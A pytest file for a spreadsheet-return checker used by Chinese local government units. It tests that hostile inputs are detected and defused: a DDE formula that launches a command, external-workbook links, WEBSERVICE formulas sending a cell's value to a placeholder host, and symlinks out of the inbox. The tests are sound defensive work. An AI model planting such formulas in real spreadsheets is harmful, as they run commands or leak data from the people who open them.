"""The returns' defences against what careless and hostile units send: formulas in input cells (DDE, external
links, web functions), impossible magnitudes, edited titles and labels, links out of the inbox, two runs at once.

Each return is a real file: simulated by the package, then changed the way a unit's spreadsheet program (openpyxl)
or a hand-edited zip would change it. What we write is read back with openpyxl and as raw XML, never through our
own reader.
"""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path
from typing import Iterator

import openpyxl
import pytest

import hostile as h
from shixiang_xl.batch import check_returns
from shixiang_xl.formulas import formula_risk, marked_cells
from shixiang_xl.merge import merge_returns
from shixiang_xl.period import Period
from shixiang_xl.textnorm import format_number

MAR = Period.parse("2026-03")
UNIT = "区卫生健康局"
TOWN = "鼓楼街道"
LEAD, CO, INFO = "进度填报", "协办事项", "填报说明"
DDE = "=cmd|'/c calc'!A0"
SHIXIANG = [sys.executable, "-m", "shixiang_xl"]


def inbox(ctx) -> Path:
    folder = ctx.workspace.folder("inbox", MAR.slug)
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def returned(ctx, tmp_path: Path, edit, unit: str = UNIT, name: str | None = None) -> Path:
    """A simulated return for ``unit``, changed by ``edit(wb)`` in openpyxl, dropped into the March inbox."""
    sim = h.simulate(ctx, tmp_path / "src" / f"{unit}.xlsx", unit, MAR)
    return h.edit_workbook(sim.path, inbox(ctx) / (name or f"2026年3月_{unit}_填报表.xlsx"), edit)


def result_for(run, unit: str):
    return next(r for r in run.batch.files if r.unit == unit)


def codes_at(res) -> set[tuple[str, str, str]]:
    return {(f.code, f.sheet, f.cell) for f in res.findings}


def live_formulas(path: Path) -> list[str]:
    """Every <f> element's text in every worksheet of an xlsx we wrote (raw XML, no reader in between)."""
    found = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", zf.read(name).decode("utf-8"))
    return found


# ------------------------------------------------------------------ formulas in input cells


def test_formula_risk_tells_dde_external_web_and_plain_apart():
    assert formula_risk("cmd|'/c calc'!A0") == "dde"
    assert formula_risk("[1]Sheet1!A1") == "external"
    assert formula_risk("'C:\\data\\[book.xlsx]Sheet1'!A1") == "external"
    assert formula_risk('WEBSERVICE("http://example.invalid/x")') == "external"
    assert formula_risk('HYPERLINK("x","y")') == "function"
    assert formula_risk("SUM(H4:H7)+1") == ""
    assert formula_risk('IF(A1="a|b",1,0)') == ""  # a bar inside a string is data


def test_a_dde_formula_in_an_input_cell_is_found_and_never_live_in_what_we_write(context, tmp_path):
    def edit(wb):
        wb[LEAD]["M4"] = DDE  # 进展情况, typed as a formula
    returned(context, tmp_path, edit)
    run = check_returns(context, None, MAR)
    res = result_for(run, UNIT)
    assert ("formula-in-input", LEAD, "M4") in codes_at(res)
    message = next(f.message for f in res.findings if f.code == "formula-in-input")
    assert "DDE" in message and "cmd|" in message
    assert res.status == "rejected"
    # The feedback copy: the cell holds the formula's text as text; no worksheet holds a live DDE formula.
    copy_path = run.feedback[UNIT]
    assert not [f for f in live_formulas(copy_path) if "|" in f]
    wb = openpyxl.load_workbook(copy_path)
    try:
        cell = wb[LEAD]["M4"]
        assert cell.data_type == "s" and cell.value == DDE
        # The workbook's own checks (locked, plain functions) stay live.
        assert wb[LEAD]["J4"].data_type == "f"
    finally:
        wb.close()
    # The check report carries the unit's formula only inside a message, as text.
    assert not [f for f in live_formulas(run.report) if "|" in f or "cmd" in f]


def test_an_external_link_formula_with_a_cached_value_is_flagged_and_its_links_dropped(context, tmp_path):
    sim = h.simulate(context, tmp_path / "src" / "r.xlsx", UNIT, MAR)
    member = h.sheet_member(sim.path, LEAD)

    def link(xml: bytes) -> bytes:
        # 累计完成值 I4: its value now comes from another workbook (Excel keeps the last value it saw).
        text = xml.decode("utf-8")
        text, n = re.subn(r'<c r="I4"([^>]*?)(?:/>|>.*?</c>)', r'<c r="I4"\1><f>[1]Sheet1!$A$1</f><v>7</v></c>',
                          text, count=1, flags=re.S)
        assert n == 1
        return text.encode("utf-8")
    path = h.rewrite_zip(sim.path, inbox(context) / "2026年3月_区卫生健康局_填报表.xlsx", {member: link})
    assert marked_cells(path.read_bytes(), "xlsx")[LEAD]["I4"] == "=[1]Sheet1!$A$1"
    run = check_returns(context, None, MAR)
    res = result_for(run, UNIT)
    hit = next(f for f in res.findings if f.code == "formula-in-input")
    assert (hit.sheet, hit.cell) == (LEAD, "I4")
    assert "其他工作簿" in hit.message
    assert res.status == "rejected"
    assert not [f for f in live_formulas(run.feedback[UNIT]) if "[" in f]


def test_a_web_formula_in_a_field_is_found(context, tmp_path):
    def edit(wb):
        wb[INFO]["B6"] = '=WEBSERVICE("http://example.invalid/?"&B7)'  # 填报人
    returned(context, tmp_path, edit)
    res = result_for(check_returns(context, None, MAR, feedback=False), UNIT)
    hit = next(f for f in res.findings if f.code == "formula-in-input")
    assert (hit.sheet, hit.cell) == (INFO, "B6")
    assert "WEBSERVICE" in hit.message


def test_the_report_workbooks_own_formulas_are_not_findings(context, tmp_path):
    returned(context, tmp_path, lambda wb: None)
    res = result_for(check_returns(context, None, MAR, feedback=False), UNIT)
    assert marked_cells(Path(res.archive_path).read_bytes(), "xlsx")  # the template has formulas …
    assert not [f for f in res.findings if f.code == "formula-in-input"]  # … none of them in an input cell
    assert res.status == "accepted"


def _with_error_value(xml: bytes, ref: str, error: str, formula: str = "") -> bytes:
    """The cell ``ref`` as Excel saves an error result: ``t="e"``, the formula (if any), the error as its value."""
    f = f"<f>{formula}</f>" if formula else ""
    text, n = re.subn(rf'<c r="{ref}"([^>]*?)(?:/>|>.*?</c>)', f'<c r="{ref}" t="e">{f}<v>{error}</v></c>',
                      xml.decode("utf-8"), count=1, flags=re.S)
    assert n == 1
    return text.encode("utf-8")


@pytest.mark.parametrize("formula", ["", 'WEBSERVICE("http://example.invalid/v")'])
def test_an_excel_error_value_in_an_input_cell_is_a_finding_not_an_empty_cell(context, tmp_path, formula):
    sim = h.simulate(context, tmp_path / "src" / "r.xlsx", UNIT, MAR)
    member = h.sheet_member(sim.path, LEAD)
    h.rewrite_zip(sim.path, inbox(context) / "2026年3月_区卫生健康局_填报表.xlsx",
                  {member: lambda xml: _with_error_value(xml, "I5", "#VALUE!", formula)})
    res = result_for(check_returns(context, None, MAR, feedback=False), UNIT)
    code = "formula-in-input" if formula else "error-value-in-input"
    hit = next(f for f in res.findings if f.code == code)
    assert (hit.sheet, hit.cell) == (LEAD, "I5")
    assert ("#VALUE!" in hit.message) if not formula else ("WEBSERVICE" in hit.message)
    assert res.status == "rejected"


# ------------------------------------------------------------------ impossible magnitudes


@pytest.mark.parametrize("value", [1e308, 1e13, 47 * 1000])
def test_an_impossible_magnitude_is_an_error_at_the_cell_and_never_printed_whole(context, tmp_path, value):
    def edit(wb):
        wb[LEAD]["I4"] = value  # 累计完成值 of 新建中心村卫生室 (target 10 家)
        wb[LEAD]["H4"] = value
    returned(context, tmp_path, edit)
    run = check_returns(context, None, MAR, feedback=False)
    res = result_for(run, UNIT)
    assert ("number-implausible", LEAD, "I4") in codes_at(res)
    assert res.status == "rejected"
    for f in res.findings:
        assert not re.search(r"\d{16,}|inf|nan", f.message, re.IGNORECASE), f.message
    rows = h.sheet_values(run.report, next(n for n in openpyxl.load_workbook(run.report, read_only=True).sheetnames))
    text = " ".join(str(v) for row in rows for v in row if v is not None)
    assert not re.search(r"\d{16,}|\binf\b|\bnan\b", text, re.IGNORECASE)


def test_format_number_never_prints_inf_nan_or_hundreds_of_digits():
    assert format_number(float("inf")) == "（无效数值）"
    assert format_number(float("nan")) == "（无效数值）"
    assert len(format_number(1e308)) < 10
    assert format_number(12345678.0) == "12345678"


# ------------------------------------------------------------------ titles and labels are locked content


def test_an_edited_unit_title_is_locked_changed_with_the_original(context, tmp_path):
    def edit(wb):
        ws = wb[INFO]
        ws.protection.sheet = False
        ws["A2"] = "填报单位：区民政局"
    returned(context, tmp_path, edit)
    res = result_for(check_returns(context, None, MAR, feedback=False), UNIT)
    hit = next(f for f in res.findings if f.code == "locked-changed")
    assert (hit.sheet, hit.cell) == (INFO, "A2")
    assert f"填报单位：{UNIT}" in hit.message and "区民政局" in hit.message
    assert res.status == "rejected"


def test_an_edited_title_on_the_co_sheet_is_locked_changed(context, tmp_path):
    def edit(wb):
        ws = wb[CO]
        ws.protection.sheet = False
        ws["A2"] = "填报单位：兴隆庄街道"
    returned(context, tmp_path, edit, unit=TOWN)
    res = result_for(check_returns(context, None, MAR, feedback=False), TOWN)
    assert ("locked-changed", CO, "A2") in codes_at(res)
    assert res.status == "rejected"


def test_an_edited_instruction_line_is_locked_changed(context, tmp_path):
    def edit(wb):
        ws = wb[INFO]
        ws.protection.sheet = False
        ws["A1"] = "随便什么标题"
    returned(context, tmp_path, edit)
    res = result_for(check_returns(context, None, MAR, feedback=False), UNIT)
    assert ("locked-changed", INFO, "A1") in codes_at(res)


# ------------------------------------------------------------------ links out of the inbox


def test_a_link_in_the_inbox_to_a_file_outside_is_refused(context, tmp_path):
    outside = h.simulate(context, tmp_path / "elsewhere" / "secret.xlsx", UNIT, MAR).path
    (inbox(context) / "2026年3月_区卫生健康局_填报表.xlsx").symlink_to(outside)
    (inbox(context) / "目录").symlink_to(outside.parent, target_is_directory=True)
    run = check_returns(context, None, MAR, feedback=False)
    refused = [f for f in run.batch.findings if f.code == "file-outside-inbox"]
    assert {f.file for f in refused} == {"2026年3月_区卫生健康局_填报表.xlsx", "目录"}
    assert not [r for r in run.batch.files if r.unit == UNIT]
    archived = [p for p in context.workspace.folder("archive").rglob("*") if p.is_file()]
    assert all(p.read_bytes() != outside.read_bytes() for p in archived)


# ------------------------------------------------------------------ one run at a time


HOLD = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from shixiang_xl.wslock import workspace_lock
    with workspace_lock(Path(sys.argv[1]), "汇总 2026-03", wait=0):
        print("held", flush=True)
        time.sleep(float(sys.argv[2]))
""")


@contextlib.contextmanager
def hold_lock(ctx, seconds: float) -> Iterator[subprocess.Popen]:
    """Another process holding the workspace's run lock for ``seconds`` (ended, at the latest, on leaving)."""
    with subprocess.Popen([sys.executable, "-c", HOLD, str(ctx.workspace.secret_path.parent), str(seconds)],
                          stdout=subprocess.PIPE, text=True) as proc:
        try:
            assert proc.stdout.readline().strip() == "held"
            yield proc
        finally:
            proc.kill()


def test_a_second_merge_says_clearly_that_a_merge_is_running(context, tmp_path):
    returned(context, tmp_path, lambda wb: None)
    with hold_lock(context, 20):
        proc = subprocess.run([*SHIXIANG, "-w", str(context.workspace.root), "merge", "--period", "2026-03",
                               "--wait", "0.5"], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert "正在进行另一项校验或汇总" in proc.stderr and "汇总 2026-03" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (context.workspace.folder("reports", MAR.slug) / "台账.xlsx").exists()


def test_a_second_merge_waits_for_the_first_and_then_runs(context, tmp_path):
    returned(context, tmp_path, lambda wb: None)
    with hold_lock(context, 2.0):
        start = time.monotonic()
        result = merge_returns(context, MAR, wait=60)
    assert time.monotonic() - start >= 1.5  # it waited for the holder to end
    assert result.ledger_path.exists()
    wb = openpyxl.load_workbook(result.ledger_path, read_only=True)
    try:
        assert "总表" in wb.sheetnames
    finally:
        wb.close()


def test_a_killed_holder_leaves_no_lock_behind(context, tmp_path):
    returned(context, tmp_path, lambda wb: None)
    with hold_lock(context, 60) as holder:
        holder.kill()
        holder.wait()
    assert merge_returns(context, MAR, wait=0).ledger_path.exists()
    assert os.path.exists(context.workspace.secret_path.parent / "运行中.lock")


# ------------------------------------------------------------------ feedback: sent back, or only hints


def test_errors_send_a_return_back_warnings_alone_only_get_hints(context, tmp_path):
    long_text = "本期新建中心村卫生室三家，完成主体施工，正在进行内部装修和设备采购，预计下月底前全部投入使用。" * 2

    def warned(wb):
        wb[LEAD]["M4"] = long_text
        wb[INFO]["B7"] = "12345"  # 联系电话: a warning only
    returned(context, tmp_path, warned)
    returned(context, tmp_path / "2", lambda wb: wb[LEAD].__setitem__("I4", -5), unit="区民政局")
    run = check_returns(context, None, MAR)
    hint, back = run.feedback[UNIT], run.feedback["区民政局"]
    assert "修改提示" in hint.name and "退回" not in hint.name
    assert "退回修改意见" in back.name
    wb = openpyxl.load_workbook(hint)
    try:
        front = wb.worksheets[0]
        assert front.title == "修改提示"
        assert "已采用" in front["A1"].value and "退回" not in front["A1"].value
        assert "已通过校验并采用" in front["A2"].value
        header = [c.value for c in front[4]]
        assert header[:5] == ["级别", "工作表", "单元格", "问题", "问题和修改要求"]
        assert front.column_dimensions["F"].hidden  # the code, hidden from the unit
        titles = {front.cell(row=r, column=4).value for r in range(5, front.max_row + 1)}
        assert "联系电话不是有效的手机或座机号码" in titles
        assert not any(re.fullmatch(r"[a-z]+(-[a-z]+)+", str(t)) for t in titles)
        # The long 进展情况 (merged over the project's rows) makes its rows tall enough to print whole.
        merged = next(m for m in wb[LEAD].merged_cells.ranges if m.min_row == 4 and m.min_col == 13)
        total = sum(wb[LEAD].row_dimensions[r].height or 15 for r in range(merged.min_row, merged.max_row + 1))
        width = wb[LEAD].column_dimensions["M"].width
        lines = -(-len(long_text) * 2 // int(width))  # CJK characters take two width units
        assert total >= lines * 13
    finally:
        wb.close()
    wb = openpyxl.load_workbook(back)
    try:
        assert wb.worksheets[0].title == "退回修改意见"
        assert "退回修改意见" in wb.worksheets[0]["A1"].value
    finally:
        wb.close()


def test_the_quick_scan_of_a_regular_sheet_finds_what_the_full_reading_finds(context, tmp_path):
    """Formulas and error values of a sheet as spreadsheet programs write it are found by a scan of the few cells
    that hold them; the expat reading, used for any other sheet, must agree on every cell."""
    from shixiang_xl.formulas import _plain_xlsx_marks, _xlsx_formulas

    sim = h.simulate(context, tmp_path / "src" / "r.xlsx", UNIT, MAR)
    member = h.sheet_member(sim.path, LEAD)
    marked = h.rewrite_zip(sim.path, tmp_path / "marked.xlsx", {member: lambda xml: _with_error_value(
        _with_error_value(xml, "I5", "#REF!"), "H6", "7", 'IF(A1="x&amp;y",1,0)')})
    with zipfile.ZipFile(marked) as zf:
        xml = zf.read(member)
    quick, full = _plain_xlsx_marks(xml), _xlsx_formulas(xml)
    assert quick is not None and quick == full
    assert quick["I5"] == "#REF!" and quick["H6"] == '=IF(A1="x&y",1,0)'
    assert any(v.startswith("=") for k, v in quick.items() if k not in ("H6",))  # the template's own formulas


@pytest.mark.parametrize("space", ["\n", "\t", "\r\n"])
def test_a_cell_tag_broken_by_a_line_break_still_shows_its_formula(context, tmp_path, space):
    """``<c`` followed by a line break is a cell to any XML reader: the quick scan (which finds cells by ``<c ``)
    leaves such a sheet to the expat reading instead of missing the formula in it."""
    from shixiang_xl.formulas import _plain_xlsx_marks, marked_cells

    sim = h.simulate(context, tmp_path / "src" / "r.xlsx", UNIT, MAR)
    member = h.sheet_member(sim.path, LEAD)

    def hide(xml: bytes) -> bytes:
        xml = _with_error_value(xml, "H6", "7", 'WEBSERVICE("http://example.invalid/v")')
        return xml.replace(b'<c r="H6"', f'<c{space}r="H6"'.encode(), 1)

    marked = h.rewrite_zip(sim.path, tmp_path / "hidden.xlsx", {member: hide})
    with zipfile.ZipFile(marked) as zf:
        assert _plain_xlsx_marks(zf.read(member)) is None
    assert marked_cells(marked.read_bytes(), "xlsx")[LEAD]["H6"] == '=WEBSERVICE("http://example.invalid/v")'
